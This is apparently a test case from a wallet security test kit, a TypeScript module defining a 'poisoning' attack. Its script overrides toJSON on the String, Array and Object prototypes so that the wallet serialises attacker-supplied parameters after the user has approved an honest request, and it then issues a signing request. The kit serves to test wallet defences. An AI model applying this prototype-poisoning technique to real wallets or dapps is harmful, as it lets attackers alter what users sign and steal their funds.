import type { Attack } from './kit/attack.ts'

export default {
  family: 'poisoning',
  how: 'Puts a toJSON on prototypes that changes the parameters when the wallet writes them, after the user continued.',
  script: `
    const { params } = attack.honest
    const asked = ethereum.request(attack.honest)
    attack.tell('asked')
    await attack.sleep(700)
    String.prototype.toJSON = function () { return String(this) === params[0] ? attack.hex : String(this) }
    Array.prototype.toJSON = function () { return this[0] === params[0] ? attack.sign.params : [...this] }
    Object.prototype.toJSON = function () { return this }
    await attack.ended(asked)
    for (const { prototype } of [String, Array, Object]) delete prototype.toJSON
    ethereum.request(attack.sign)
  `,
  async hands({ hear, continueHonest }) {
    await hear('asked')
    await continueHonest()
  },
} satisfies Attack
